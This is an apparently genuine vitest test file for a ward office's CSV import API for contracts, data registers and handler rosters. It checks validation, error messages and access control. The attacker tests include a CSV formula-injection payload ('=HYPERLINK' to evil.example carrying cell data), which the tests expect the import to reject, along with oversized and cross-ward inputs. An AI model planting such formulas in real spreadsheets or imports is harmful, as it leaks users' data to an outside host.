import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTRACTS, countRows } from '../../../test/helpers/contracts.js';
import { createTestApp, type TestApp } from '../../../test/helpers/test-app.js';
import { buildWorld, type World } from '../../../test/helpers/world.js';

// 既存記録の取込み through the API: a good file imports, a bad one names every problem by row and
// column and writes nothing, and what an attacker sends (formulas, a huge body, Shift_JIS, another
// ward's ids) is refused with a 4xx and changes nothing.

let t: TestApp;
let w: World;

beforeAll(async () => {
  t = await createTestApp();
  w = await buildWorld(t);
});
afterAll(() => t.close());

const IMPORTS = '/api/v1/imports';

function csv(lines: string[][]): string {
  return `\uFEFF${lines.map((l) => l.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n')}\r\n`;
}

function upload(kind: string, content: string | Uint8Array, token = w.tokens.ward_officer, query = '') {
  const form = new FormData();
  form.append('file', new File([content as BlobPart], `${kind}.csv`, { type: 'text/csv' }));
  return t.call('POST', `${IMPORTS}/${kind}${query}`, { token, body: form });
}

const CONTRACT_HEADINGS = [
  '契約番号',
  '件名',
  '所管課',
  '受託者（法人番号又はID）',
  '契約日',
  '契約期間（開始）',
  '契約期間（終了）',
  '契約金額',
  '履行場所',
  '個人情報の取扱い',
  '処理の形態',
  '業務内容',
  '状態',
  '業務開始日',
];

let serial = 500;
function contractRow(overrides: Partial<Record<string, string>> = {}): string[] {
  serial += 1;
  const row: Record<string, string> = {
    契約番号: `30契約第${serial}号`,
    件名: '放置自転車等撤去・保管業務委託',
    所管課: '交通対策課',
    '受託者（法人番号又はID）': '1011101000001',
    契約日: '令和7年3月25日',
    '契約期間（開始）': '2025-04-01',
    '契約期間（終了）': '令和8年3月31日',
    契約金額: '48,600,000',
    履行場所: '新宿区内の自転車等保管場所',
    個人情報の取扱い: '有',
    処理の形態: '1、3',
    業務内容: '放置自転車等の撤去、保管及び返還',
    状態: '実施中',
    業務開始日: '2025/4/1',
    ...overrides,
  };
  return CONTRACT_HEADINGS.map((h) => row[h]!);
}

async function counts() {
  return {
    contracts: await countRows(t, 'contracts'),
    registers: await countRows(t, 'register_revisions'),
    lists: await countRows(t, 'handler_list_submissions'),
    handlers: await countRows(t, 'handlers'),
    audit: await countRows(t, 'audit_entries'),
  };
}

describe('templates (取込み用テンプレート)', () => {
  it('downloads each kind as CSV with BOM and the seed forms’ headings', async () => {
    for (const [kind, heading] of [
      ['contracts', '契約期間（開始）'],
      ['register', '項目名'],
      ['handlers', '誓約書の日付'],
    ]) {
      const res = await t.app.request(`${IMPORTS}/templates/${kind}.csv`, {
        headers: { authorization: `Bearer ${w.tokens.ward_officer}` },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/text\/csv/);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(new TextDecoder().decode(bytes)).toContain(heading);
    }
  });

  it('is not offered to a company or for an unknown kind', async () => {
    expect(
      (await t.call('GET', `${IMPORTS}/templates/contracts.csv`, { token: w.tokens.contractor_manager }))
        .status,
    ).toBe(403);
    expect(
      (await t.call('GET', `${IMPORTS}/templates/users.csv`, { token: w.tokens.ward_officer })).status,
    ).toBe(404);
  });
});

describe('importing contracts, their registers and rosters', () => {
  it('imports a good file of each kind, keeping the original dates, and lists the imports', async () => {
    const active = contractRow({ 契約番号: '30契約第1号' });
    const closed = contractRow({ 契約番号: '29契約第7号', 状態: '完了', 業務開始日: '' });
    const before = await counts();
    const dry = await upload(
      'contracts',
      csv([CONTRACT_HEADINGS, active, closed]),
      undefined,
      '?dryRun=true',
    );
    expect(dry.status, JSON.stringify(dry.body)).toBe(200);
    expect(dry.body).toMatchObject({ dryRun: true, id: null, rowCount: 2, recordCount: 2 });
    expect(await counts()).toEqual(before);

    const res = await upload('contracts', csv([CONTRACT_HEADINGS, active, closed]));
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ kind: 'contracts', dryRun: false, rowCount: 2, recordCount: 2 });
    const list = await t.call('GET', `${CONTRACTS}?limit=200&view=full`, { token: w.tokens.ward_officer });
    const imported = list.body.items.find((c: any) => c.contractNumber === '30契約第1号');
    expect(imported).toMatchObject({
      status: 'active',
      contractDate: '2025-03-25',
      periodFrom: '2025-04-01',
      periodTo: '2026-03-31',
      amountYen: '48600000',
      processingModes: ['paper_handover', 'offsite_electronic'],
      importId: res.body.id,
      startedAt: '2025-03-31T15:00:00.000Z',
    });
    expect(imported.importedAt).toBe(t.clock.now().toISOString());
    const closedOne = list.body.items.find((c: any) => c.contractNumber === '29契約第7号');
    expect(closedOne.status).toBe('closed');
    // the company reads the contract it is party to
    const seen = await t.call('GET', `${CONTRACTS}/${imported.id}`, { token: w.tokens.contractor_manager });
    expect(seen.status).toBe(200);

    t.clock.advance(60_000);
    const register = await upload(
      'register',
      csv([
        [
          '契約番号',
          '対象者',
          '項目名',
          '区分',
          '過年度分',
          '要配慮区分',
          '特定個人情報',
          '承認の記録',
          '記録媒体',
          '記録媒体の名称',
        ],
        [
          '30契約第1号',
          '撤去車両所有者',
          '氏名',
          '委託先に提供する項目',
          '有',
          '',
          '無',
          '',
          '紙',
          '放置自転車等返還請求書',
        ],
        ['30契約第1号', '撤去車両所有者', '住所', '提供', '', '', '', '', 'USB', '暗号化USBメモリ'],
        ['30契約第1号', '問合せ者', '電話番号', '収集', '', '', '', '', '', ''],
      ]),
    );
    expect(register.status, JSON.stringify(register.body)).toBe(201);
    const doc = await t.call('GET', `${CONTRACTS}/${imported.id}/register`, { token: w.tokens.ward_officer });
    expect(doc.body.revision).toBe(1);
    expect(doc.body.document.subjectGroups.map((g: any) => g.name)).toEqual(['撤去車両所有者', '問合せ者']);
    expect(doc.body.document.media).toHaveLength(2);

    t.clock.advance(60_000);
    const roster = await upload(
      'handlers',
      csv([
        [
          '契約番号',
          '役割',
          '氏名',
          'フリガナ',
          '役職',
          '業務',
          '特定個人情報の取扱い',
          '従事開始日',
          '従事終了日',
          '誓約書の日付',
          '名簿の確認日',
        ],
        [
          '30契約第1号',
          '取扱責任者',
          '新宿 一郎',
          'シンジュク イチロウ',
          '主任',
          '',
          '無',
          '2025-04-01',
          '',
          '令和7年3月28日',
          '2025-03-31',
        ],
        ['30契約第1号', '取扱者', '高田 花子', '', '', '', '', '2025-04-01', '2026-03-31', '2025-03-28', ''],
      ]),
    );
    expect(roster.status, JSON.stringify(roster.body)).toBe(201);
    const lists = await t.call('GET', `${CONTRACTS}/${imported.id}/handler-lists`, {
      token: w.tokens.ward_officer,
    });
    expect(lists.status, JSON.stringify(lists.body)).toBe(200);
    expect(JSON.stringify(lists.body)).toContain('acknowledged');

    const history = await t.call('GET', IMPORTS, { token: w.tokens.ward_officer });
    expect(history.body.items.map((i: any) => i.kind)).toEqual(['handlers', 'register', 'contracts']);
    // one audit entry per record written, naming the import
    const audit = await t.handle.db
      .selectFrom('audit_entries')
      .select('action')
      .where('action', 'in', ['contract.import', 'register.import', 'handler_list.import'])
      .execute();
    expect(audit.map((a) => a.action).sort()).toEqual([
      'contract.import',
      'contract.import',
      'handler_list.import',
      'register.import',
    ]);
  });

  it('refuses a file with errors in rows 2 and 5, naming both, and writes nothing', async () => {
    const before = await counts();
    const res = await upload(
      'contracts',
      csv([
        CONTRACT_HEADINGS,
        contractRow({ '契約期間（開始）': '4月1日' }),
        contractRow(),
        contractRow(),
        contractRow({ 所管課: '存在しない課', 状態: '承認済' }),
      ]),
    );
    expect(res.status).toBe(422);
    expect(res.headers.get('content-type')).toMatch(/problem\+json/);
    expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([
      [2, '契約期間（開始）'],
      [5, '所管課'],
      [5, '状態'],
    ]);
    expect(res.body.errors[0].message_ja).toBe(
      '2行目『契約期間（開始）』（セルF2）: 日付は YYYY-MM-DD または 令和8年4月1日 の形で入力してください',
    );
    expect(res.body.errors[0].message).toMatch(/^Row 2, "契約期間（開始）" \(cell F2\): a date/);
    expect(res.body.errors.map((e: any) => e.cell)).toEqual(['F2', 'C5', 'M5']);
    expect(res.body.detail_ja).toContain('何も登録されていません');
    expect(await counts()).toEqual(before);
  });

  it('refuses a number already registered, and the same number twice in one file', async () => {
    const again = contractRow({ 契約番号: '30契約第1号' });
    const twice = contractRow();
    const res = await upload('contracts', csv([CONTRACT_HEADINGS, again, twice, [...twice]]));
    expect(res.status).toBe(422);
    expect(res.body.errors.map((e: any) => e.row)).toEqual([2, 4]);
  });
});

describe('what an attacker or a careless user sends', () => {
  it('refuses a formula in any cell (=HYPERLINK, +, -, @) and writes nothing', async () => {
    const before = await counts();
    const res = await upload(
      'contracts',
      csv([
        CONTRACT_HEADINGS,
        contractRow({ 件名: '=HYPERLINK("http://evil.example/?"&A1,"開く")' }),
        contractRow({ 履行場所: '@SUM(1+1)' }),
        contractRow({ 業務内容: '-2+3' }),
      ]),
    );
    expect(res.status).toBe(422);
    expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([
      [2, '件名'],
      [3, '履行場所'],
      [4, '業務内容'],
    ]);
    expect(res.body.errors[0].message_ja).toContain('数式');
    expect(await counts()).toEqual(before);
  });

  it('refuses a Shift_JIS file with how to save it, and writes nothing', async () => {
    const before = await counts();
    // 「契約番号」 in Shift_JIS, as Excel's plain 「CSV（コンマ区切り）」 saves it
    const sjis = new Uint8Array([
      0x8c, 0x5f, 0x96, 0xf1, 0x94, 0xd4, 0x8d, 0x86, 0x0d, 0x0a, 0x31, 0x0d, 0x0a,
    ]);
    const res = await upload('contracts', sjis);
    expect(res.status).toBe(422);
    expect(res.body.detail_ja).toContain('UTF-8');
    expect(res.body.errors[0].path).toBe('file');
    expect(await counts()).toEqual(before);
  });

  it('refuses a body over the limit with 413, and too many rows with 422', async () => {
    const before = await counts();
    const huge = await upload(
      'contracts',
      `${CONTRACT_HEADINGS.join(',')}\r\n${'x'.repeat(3 * 1024 * 1024)}`,
    );
    expect(huge.status).toBe(413);
    const rows = Array.from({ length: 2001 }, () => contractRow());
    const many = await upload('contracts', csv([CONTRACT_HEADINGS, ...rows]));
    expect(many.status).toBe(422);
    expect(many.body.detail_ja).toContain('2000行');
    expect(await counts()).toEqual(before);
  });

  it('refuses another ward’s company, department and contract numbers, and writes nothing', async () => {
    const other = await t.call('POST', CONTRACTS, {
      token: w.tokens.other_ward_officer,
      json: {
        departmentId: (
          await t.handle.db
            .selectFrom('departments')
            .select('id')
            .where('ward_id', '=', w.otherWardId)
            .executeTakeFirstOrThrow()
        ).id,
        contractorOrgId: w.otherWardCompanyId,
        title: '練馬区の委託',
        contractNumber: '練馬第1号',
        periodFrom: '2026-04-01',
        periodTo: '2027-03-31',
        handlesPersonalInfo: true,
      },
    });
    expect(other.status, JSON.stringify(other.body)).toBe(201);
    const before = await counts();
    const contracts = await upload(
      'contracts',
      csv([
        CONTRACT_HEADINGS,
        contractRow({ '受託者（法人番号又はID）': w.otherWardCompanyId }),
        contractRow({ 所管課: '区民課' }),
      ]),
    );
    expect(contracts.status).toBe(422);
    expect(contracts.body.errors.map((e: any) => [e.row, e.column])).toEqual([
      [2, '受託者（法人番号又はID）'],
      [3, '所管課'],
    ]);
    const register = await upload(
      'register',
      csv([
        [
          '契約番号',
          '対象者',
          '項目名',
          '区分',
          '過年度分',
          '要配慮区分',
          '特定個人情報',
          '承認の記録',
          '記録媒体',
          '記録媒体の名称',
        ],
        ['練馬第1号', '区民', '氏名', '提供', '', '', '', '', '', ''],
      ]),
    );
    expect(register.status).toBe(422);
    expect(register.body.errors[0]).toMatchObject({ row: 2, column: '契約番号' });
    expect(await counts()).toEqual(before);
  });

  it('refuses a file under the wrong headings, naming what is missing', async () => {
    const res = await upload('handlers', csv([CONTRACT_HEADINGS, contractRow()]));
    expect(res.status).toBe(422);
    expect(res.body.errors.some((e: any) => e.row === 1 && e.column === '氏名')).toBe(true);
  });

  it('lets no company, council reviewer or other ward import or read the history', async () => {
    const before = await counts();
    for (const who of ['contractor_manager', 'council_reviewer', 'ward_manager']) {
      const res = await upload('contracts', csv([CONTRACT_HEADINGS, contractRow()]), w.tokens[who]);
      expect(res.status, who).toBe(403);
      const history = await t.call('GET', IMPORTS, { token: w.tokens[who] });
      expect(history.body.items, who).toEqual([]);
    }
    const other = await t.call('GET', IMPORTS, { token: w.tokens.other_ward_officer });
    expect(other.body.items).toEqual([]);
    expect(await counts()).toEqual(before);
  });
});

describe('the OpenAPI document', () => {
  it('describes the imports and, on the handover operations, the time rules imports are exempt from', async () => {
    const doc = (await t.call('GET', '/api/openapi.json')).body;
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/imports',
        '/api/v1/imports/{kind}',
        '/api/v1/imports/templates/{kind}.csv',
        '/api/v1/imports/templates/{kind}.xlsx',
        '/api/v1/imports/history/{contractId}',
      ]),
    );
    for (const path of ['media-handover', 'password-handover']) {
      const description: string = doc.paths[`/api/v1/handover-packages/{id}/${path}`].post.description;
      expect(description).toMatch(/one hour|an hour/);
      expect(description).toContain('future');
      expect(description).toContain('既存記録の取込み');
    }
  });
});
